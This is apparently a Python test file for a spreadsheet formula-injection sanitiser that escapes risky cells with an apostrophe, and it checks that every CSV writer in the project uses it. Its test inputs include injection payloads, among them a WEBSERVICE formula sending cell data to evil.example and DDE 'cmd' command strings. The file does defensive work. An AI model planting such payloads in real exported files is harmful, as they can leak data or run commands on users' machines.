"""What a spreadsheet would run is made a text wherever a file of text leaves the house."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from zhiheng.kernel.formulas import as_delivered, as_text, is_formula

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    "text",
    [
        '=WEBSERVICE("http://evil.example/"&F2)',
        "=cmd|'/c calc'!A1",
        "=1+1",
        "+cmd|x!A1",
        "-2+cmd|x!A1",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1+1",
        "＝1+1",
        "-A1",
        "+86 138",
        "-1-2",
        "+HYPERLINK(B2)",
        "@王",
        "=",
    ],
)
def test_会被当作公式的_前面加撇号(text: str) -> None:
    assert is_formula(text)
    assert as_text(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "云澜示例机械有限公司",
        "-5",
        "-12.50",
        "-3.5E+2",
        "1=1",
        "a@b.example",
        "2026-03-01",
        "'=1",
        "-",
        "——",
        "10%",
    ],
)
def test_老实的内容一字不动(text: str) -> None:
    assert as_text(text) == text


@given(st.text(max_size=30))
def test_写出来的内容_电子表格都不会执行(text: str) -> None:
    shown = as_text(text)
    assert not is_formula(shown)
    if is_formula(text):
        assert as_delivered(shown) == text


def test_只有一处决定什么是公式_每个写文本表格的地方都用它() -> None:
    # Who writes what only Zhiheng itself reads again must not change it.
    own = {
        "actions/cases/line_writer.py",
        "actions/enterprises/sign_undertaking.py",
        "api/office/deliveries.py",
        "demo/layouts.py",
    }
    writers = {
        str(path.relative_to(ROOT / "zhiheng")): path.read_text("utf-8")
        for path in (ROOT / "zhiheng").rglob("*.py")
        if re.search(r"csv\.writer\(", path.read_text("utf-8"))
    }
    assert own < set(writers)
    assert [name for name, text in writers.items() if name not in own and "as_text" not in text] == []
